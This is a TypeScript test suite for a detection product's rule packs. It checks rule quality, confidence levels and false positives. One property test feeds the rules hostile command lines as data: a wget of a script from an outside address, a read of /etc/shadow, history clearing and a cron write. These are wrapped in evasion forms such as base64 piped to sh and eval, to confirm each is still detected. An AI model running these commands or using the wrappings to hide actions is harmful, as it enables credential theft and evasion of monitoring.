import { readFileSync } from 'node:fs'
import { basename, dirname, relative } from 'node:path'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { formatDiagnostic } from '../core/diagnostic.ts'
import { emitsOf } from '../rules/emit.ts'
import { readRuleFolders } from '../rules/folder-listing.ts'
import { ruleContext } from '../rules/language/context.ts'
import { buildRuleSet } from '../rules/rule-set.ts'
import type { MatchEvent } from '../schemas/event.ts'
import { normalizeFields } from '../schemas/normalize/normalize.ts'
import { rulePackPage } from '../scripts/rule-pack-page.ts'
import { behaviours, everydayAttackLines, ordinaryLines, ordinaryRequests } from './rule-packs.ts'

/** The packs that come with the product, as a whole; each rule's own samples run when it is loaded. */

const folder = fileURLToPath(new URL('../rules', import.meta.url))
const files = readRuleFolders([folder])
const set = buildRuleSet(files, ruleContext())

function eventOf(kind: string, fields: Record<string, unknown>): MatchEvent {
  return { kind, logsource: {}, fields: normalizeFields(kind, fields) }
}

function rulesOn(event: MatchEvent): readonly string[] {
  return set.revision.match(event).map((rule) => rule.id)
}

/** Highest confidence of any tag, and by which rule. */
function loudest(event: MatchEvent): string {
  const said = set.revision
    .match(event)
    .flatMap((rule) => emitsOf(rule, event).map(({ confidence }) => ({ confidence, id: rule.id })))
  const top = said.toSorted((a, b) => b.confidence - a.confidence)[0]
  return top === undefined || top.confidence <= 0.6 ? 'quiet' : `${top.id} ${top.confidence}`
}

test('every pack loads without an error or a warning, and its samples hold', () => {
  expect(set.diagnostics.map(formatDiagnostic)).toEqual([])
  expect(set.rejections).toEqual([])
  expect(set.rules.length).toBe(files.length)
  expect(set.rules.length).toBeGreaterThan(250)
})

test('a rule is where its id says, alone in its file', () => {
  const misplaced = set.rules.filter(
    (rule) => `${basename(dirname(rule.file))}.${basename(rule.file, '.yaml')}` !== rule.id,
  )
  expect(misplaced.map((rule) => rule.id)).toEqual([])
  expect(new Set(set.rules.map((rule) => rule.id)).size).toBe(set.rules.length)
})

test('every rule shows at least two events that it tags and two that it does not', () => {
  const thin = set.rules.filter(({ samples }) => {
    const positive = samples.filter((sample) => sample.emits.length > 0).length
    return positive < 2 || samples.length - positive < 2
  })
  expect(thin.map((rule) => rule.id)).toEqual([])
})

test('every rule says what it sees, when it was reviewed and what it refers to', () => {
  for (const file of files) {
    const text = readFileSync(file.path, 'utf8')
    expect(text, file.path).toMatch(/^last_reviewed: \d{4}-\d{2}-\d{2}$/m)
    expect(text.split('\n').length, file.path).toBeLessThanOrEqual(82)
    expect(relative(folder, file.path)).toMatch(/^[a-z0-9-]+\/[a-z0-9-]+\.yaml$/)
  }
  for (const rule of set.rules) {
    expect(rule.description.length, rule.id).toBeGreaterThan(25)
    expect(rule.evidenceFields?.length, rule.id).toBeGreaterThan(0)
    if (rule.kinds?.includes('intel') && rule.id !== 'intel.aggregate-verdict') {
      const text = readFileSync(rule.file, 'utf8')
      expect(text, rule.id).toMatch(/ {2}- https:\/\/(?!attack\.mitre\.org)/)
    }
  }
})

test('what is common is said quietly: no low rule speaks above 0.6', () => {
  const loud = set.rules.filter(
    ({ severity, emits }) =>
      (severity === 'low' || severity === 'informational') &&
      emits.some(({ confidence }) => confidence > 0.6),
  )
  expect(loud.map((rule) => rule.id)).toEqual([])
})

test('no confidence lies below the floor under which tags are not written', () => {
  const silent = set.rules.filter((rule) => rule.emits.some(({ confidence }) => confidence < 0.3))
  expect(silent.map((rule) => rule.id)).toEqual([])
})

test.each(behaviours)('behaviour: $behaviour', ({ kind, fields, rule }) => {
  expect(rulesOn(eventOf(kind, fields))).toContain(rule)
})

test('the table of behaviours names each once, and rules that exist', () => {
  expect(new Set(behaviours.map(({ behaviour }) => behaviour)).size).toBe(59)
  const known = new Set(set.rules.map((rule) => rule.id))
  expect(behaviours.filter(({ rule }) => !known.has(rule))).toEqual([])
})

test.each(everydayAttackLines)('an everyday attacker line is tagged: %s', (line, rule) => {
  expect(rulesOn(eventOf('command', { command_text: line }))).toContain(rule)
})

test.each(ordinaryLines)('ordinary work is not tagged above 0.6: %s', (line) => {
  expect(loudest(eventOf('command', { command_text: line }))).toBe('quiet')
})

test.each(ordinaryRequests)('an ordinary request is not tagged above 0.6: %s', (url) => {
  const fields = { raw_url: url, user_agent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0' }
  expect(loudest(eventOf('http_request', fields))).toBe('quiet')
})

const wrappings: readonly ((command: string) => string)[] = [
  (command) => `cd /var/empty; ${command}`,
  (command) => `true && ${command}`,
  (command) => `false||${command}`,
  (command) => `(${command})`,
  (command) => `sudo -n ${command}`,
  (command) => `env A=1 nohup ${command} &`,
  (command) => `busybox ${command}`,
  (command) => `timeout 5 ${command}`,
  (command) => `sh -c '${command}'`,
  (command) => `eval "${command}"`,
  (command) => `echo x; $( ${command} )`,
  (command) => `echo ${Buffer.from(command).toString('base64')} | base64 -d | sh`,
  (command) => `bash <<< '${command}'`,
  (command) => `if true; then ${command}; fi`,
  (command) => `x='${command}'; eval $x`,
]

test('no wrapping of a command, nor two of them, hides it from its rule', () => {
  const commands = fc.constantFrom(
    ['wget http://198.51.100.7/x.sh', 'linux-shell.download-from-address'],
    ['cat /etc/shadow', 'linux-shell.shadow-file-read'],
    ['history -c', 'linux-shell.history-cleared'],
    ['crontab /tmp/c', 'linux-shell.cron-write'],
  )
  const wrap = fc.constantFrom(...wrappings)
  fc.assert(
    fc.property(commands, wrap, wrap, ([command = '', rule = ''], outer, inner) => {
      const once = inner(command)
      const isNestable = !once.includes("'") && !once.includes('"')
      const line = isNestable ? outer(once) : once
      expect(rulesOn(eventOf('command', { command_text: line })), line).toContain(rule)
    }),
    { numRuns: 300 },
  )
})

test('a purple-team test is tagged by no rule: it is what is checked, not what was seen', () => {
  const event = eventOf('test', { test_id: 't', technique_id: 'T1003.006', state: 'validated' })
  expect(rulesOn(event)).toEqual([])
})

test('the page of the rule packs is up to date', () => {
  const page = readFileSync(new URL('../docs/rule-packs.md', import.meta.url), 'utf8')
  expect(page, 'run: node --import tsx scripts/rule-packs.ts').toBe(rulePackPage(set.rules))
})
